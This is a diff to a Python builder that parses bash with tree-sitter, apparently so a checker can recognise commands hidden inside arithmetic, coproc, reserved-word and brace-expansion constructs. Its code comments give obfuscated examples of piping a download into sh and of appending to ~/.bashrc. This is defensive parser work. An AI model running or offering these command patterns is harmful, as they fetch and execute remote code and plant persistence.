@@ -513,6 +513,8 @@ class _Builder:
                     last = self.pipelines[-1][-1]
                     extended = last.replace(words=last.words + tuple(trailing))
                     self.pipelines[-1] = (*self.pipelines[-1][:-1], extended)
+            for broken in (c for c in node.children if c.type == "ERROR"):
+                self.error(broken, background)  # `echo $(( (curl x | sh) ) 2>&1)`: what did not parse
             # cat <<EOF | sh: tree-sitter puts what follows the here-document's start inside it.
             for after in (c for n in nodes if n.type == "heredoc_redirect" for c in n.children):
                 if (
@@ -663,6 +665,10 @@ class _Builder:
         """
         children = node.children
         for opener in children:
+            if opener.type == "$((":
+                # `$(( (curl x | sh) ))` is no arithmetic: bash then reads `$( (...) )`, a substitution.
+                end = _matching_close(self.source, opener.start_byte + 2, "$(")
+                self.reparse("$(", self.source[opener.start_byte + 2 : end].decode("utf-8", "surrogatepass"))
             if not opener.is_named and opener.type in _OPENERS:
                 # `a[$({echo,} x > ~/.bashrc)]=1`: the substitution's code became statements of the
                 # ERROR (or was cut in pieces): its text, to the matching parenthesis, is parsed again.
@@ -929,20 +935,16 @@ class _Builder:
                 group.append(child)
         words.extend(self.group_words(group))
         first = node.children[0] if node.children else None
-        timed = False
-        if first is not None and first.type == "command_name" and self.text(first) == "coproc" and words:
-            # `coproc c { curl x | sh; }`: tree-sitter-bash knows no coproc (a command named coproc,
-            # the pipeline cut at the `|`); bash runs the pipeline inside.
-            words.pop(0)
-            if words[1:2] == ["{"]:
-                words.pop(0)
-            if words[:1] == ["{"]:
-                words.pop(0)
-        elif first is not None and first.type == "command_name" and self.text(first) in _RESERVED:
+        if first is not None and first.type == "command_name" and self.text(first) in _RESERVED:
             # `! until ! curl x | sh; do ...`: tree-sitter read a reserved word as a command's name;
-            # to bash it opens a compound command, whose first command is what follows.
+            # to bash it opens a compound command, whose first command is what follows. And
+            # `coproc c { curl x | sh; }`: tree-sitter-bash knows no coproc (a command named
+            # coproc, the pipeline cut at the `|`); bash runs the pipeline inside.
+            timed = False
             while words and (words[0] in _RESERVED or (words[0] in ("-p", "--") and timed)):
                 timed = words.pop(0) == "time"
+                if not timed and words[1:2] == ["{"] and words[0] not in _RESERVED:
+                    words.pop(0)  # coproc NAME {
         words.extend(self.trailing)
         self.trailing = outer
         # The list of substitutions is the script's: it grows while the walk goes on.
@@ -1207,7 +1209,7 @@ _WORD_LIKE = frozenset({
     "brace_expression", "command_name",
 })  # fmt: skip
 _RESERVED = frozenset(
-    {"if", "then", "elif", "else", "fi", "do", "done", "while", "until", "!", "{", "}", "time"}
+    {"if", "then", "elif", "else", "fi", "do", "done", "while", "until", "!", "{", "}", "time", "coproc"}
 )
 """Reserved words that, first in a command, open or close a compound command (``time``: a pipeline)."""
 _REDIRECTED_COMPOUNDS = frozenset({
